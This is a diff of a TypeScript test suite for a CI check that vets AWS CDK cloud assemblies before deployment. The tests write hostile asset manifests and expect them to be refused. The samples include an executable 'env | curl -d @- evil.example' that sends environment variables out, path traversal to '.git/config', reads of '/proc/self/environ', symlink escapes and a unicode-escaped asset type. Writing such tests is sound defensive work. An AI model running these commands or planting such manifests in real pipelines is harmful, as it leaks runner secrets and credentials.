@@ -148,7 +148,7 @@ describe('a changed artefact', () => {
 
   function packArtefact(): string {
     mkdirSync(join(folder, 'artefact/cdk.out'), { recursive: true });
-    writeFileSync(join(folder, 'artefact/cdk.out/Stack.assets.json'), '{"files":{}}');
+    writeFileSync(join(folder, 'artefact/cdk.out/manifest.json'), '{"artifacts":{}}');
     execFileSync('tar', ['-czf', 'assembly.tar.gz', 'cdk.out'], { cwd: join(folder, 'artefact') });
     rmSync(join(folder, 'artefact/cdk.out'), { recursive: true });
     return createHash('sha256')
@@ -177,12 +177,22 @@ describe('a changed artefact', () => {
 });
 
 describe('a cloud assembly', () => {
-  const checkAssembly = (): { status: number | null; stderr: string } =>
-    spawnSync(process.execPath, [resolve('.github/deploy/check-assembly.ts'), folder], { encoding: 'utf8' });
-  const writeManifest = (manifest: object) =>
-    writeFileSync(join(folder, 'Stack.assets.json'), JSON.stringify({ version: '1', ...manifest }));
+  const checkAssembly = (path = folder): { status: number | null; stderr: string } =>
+    spawnSync(process.execPath, [resolve('.github/deploy/check-assembly.ts'), path], { encoding: 'utf8' });
+  const writeJson = (file: string, content: object) => writeFileSync(join(folder, file), JSON.stringify(content));
+  const assets = (file: string) => ({ type: 'cdk:asset-manifest', properties: { file } });
   const image = (source: object) => ({ dockerImages: { a1: { source: { directory: 'asset.1', ...source } } } });
   const file = (source: object) => ({ files: { a1: { source: { path: 'asset.1', packaging: 'zip', ...source } } } });
+
+  /** Writes an assembly as the CDK does, of one stack with these assets, and further artefacts. */
+  function writeAssembly(content: object, artifacts: object = {}, manifest: object = {}): void {
+    const stack = { type: 'aws:cloudformation:stack', properties: { templateFile: 'Stack.template.json' } };
+    writeJson('manifest.json', {
+      ...{ version: '1', artifacts: { Stack: stack, 'Stack.assets': assets('Stack.assets.json'), ...artifacts } },
+      ...manifest,
+    });
+    writeJson('Stack.assets.json', { version: '1', ...content });
+  }
 
   test.each([
     ['a command that makes a file', file({ executable: ['sh', '-c', 'env | curl -d @- evil.example'] }), 'executable'],
@@ -192,30 +202,69 @@ describe('a cloud assembly', () => {
     ["the runner's network for a build", image({ networkMode: 'host' }), 'networkMode'],
     ["the runner's folders for a build", image({ dockerBuildContexts: { home: '/home/runner' } }), 'Contexts'],
     ['a file of the runner', file({ path: '/proc/self/environ' }), 'outside the assembly'],
-    ['a file above the assembly', file({ path: '../../.git/config' }), 'outside the assembly'],
+    ['a file above the assembly', file({ path: 'asset.1/../../../.git/config' }), 'outside the assembly'],
+    ['no path', file({ path: undefined }), 'outside the assembly'],
     ['an image by a tag', image({ dockerBuildArgs: { BASE_IMAGE: 'evil.example/emr:latest' } }), 'not from a digest'],
-  ])('is refused with %s', (_, manifest, reason) => {
-    writeManifest(manifest);
+  ])('is refused with %s', (_, content, reason) => {
+    writeAssembly(content);
     expect(checkAssembly()).toMatchObject({ status: 1, stderr: expect.stringContaining(reason) });
   });
 
-  test('is refused with a link out of it', () => {
-    writeManifest(file({}));
-    symlinkSync('/proc/self/environ', join(folder, 'asset.1'));
-    expect(checkAssembly()).toMatchObject({ status: 1, stderr: expect.stringContaining('symbolic link') });
+  const command = file({ executable: ['sh', '-c', 'env'] });
+  const legacyAsset = [{ type: 'aws:cdk:asset', data: { packaging: 'container-image', path: '/', buildSecrets: {} } }];
+
+  test.each<[string, object, string]>([
+    ['assets under another name', { Other: assets('other.json') }, 'executable'],
+    ['assets outside of it', { Other: assets('../other.assets.json') }, 'outside the assembly'],
+    ['assets in a folder of it', { Other: assets('asset.1/other.json') }, 'outside the assembly'],
+    [
+      'another assembly in it',
+      { Other: { type: 'cdk:cloud-assembly', properties: { directoryName: '/' } } },
+      'cloud-assembly',
+    ],
+    [
+      'a template outside of it',
+      { Other: { type: 'aws:cloudformation:stack', properties: { templateFile: '/etc/x' } } },
+      'outside',
+    ],
+    [
+      'assets as metadata',
+      { Other: { type: 'aws:cloudformation:stack', metadata: { '/Stack': legacyAsset } } },
+      'asset manifests',
+    ],
+    [
+      'assets in a file of metadata',
+      { Other: { type: 'cdk:tree', additionalMetadataFile: 'other.json' } },
+      'asset manifests',
+    ],
+  ])('is refused with %s', (_, artifacts, reason) => {
+    writeAssembly(file({}), artifacts);
+    const other = JSON.stringify({ ...command, '/Stack': legacyAsset }).replace('aws:cdk:asset', 'aws:cdk:\\u0061sset');
+    writeFileSync(join(folder, 'other.json'), other);
+    expect(checkAssembly()).toMatchObject({ status: 1, stderr: expect.stringContaining(reason) });
   });
 
-  test('is refused in a nested assembly, and without a manifest', () => {
-    expect(checkAssembly()).toMatchObject({ status: 1, stderr: expect.stringContaining('no asset manifest') });
-    writeManifest(file({}));
-    mkdirSync(join(folder, 'assembly-Stage'));
-    writeFileSync(join(folder, 'assembly-Stage/S.assets.json'), JSON.stringify(file({ executable: ['sh'] })));
-    expect(checkAssembly()).toMatchObject({ status: 1, stderr: expect.stringContaining('executable') });
+  test('is refused with a question for the account', () => {
+    writeAssembly(file({}), {}, { missing: [{ key: 'k', provider: 'plugin', props: {} }] });
+    expect(checkAssembly()).toMatchObject({ status: 1, stderr: expect.stringContaining('asks for context') });
+  });
+
+  test('is refused with a link out of it, and as a link itself', () => {
+    writeAssembly(file({}));
+    symlinkSync('/proc/self/environ', join(folder, 'asset.1'));
+    expect(checkAssembly()).toMatchObject({ status: 1, stderr: expect.stringContaining('asset.1 is neither') });
+    symlinkSync(folder, `${folder}-link`);
+    expect(checkAssembly(`${folder}-link`)).toMatchObject({ status: 1, stderr: expect.stringContaining('no folder') });
+    rmSync(`${folder}-link`);
+  });
+
+  test('is refused without a manifest', () => {
+    expect(checkAssembly().status).toBe(1);
   });
 
   test('is accepted with files and images of its own', () => {
     const base = { BASE_IMAGE: `example.com/emr@sha256:${'b'.repeat(64)}` };
-    writeManifest({ ...file({}), ...image({ platform: 'linux/amd64', dockerBuildArgs: base }) });
+    writeAssembly({ ...file({}), ...image({ platform: 'linux/amd64', dockerBuildArgs: base }) });
     expect(checkAssembly()).toEqual(expect.objectContaining({ status: 0, stderr: '' }));
   });
 });
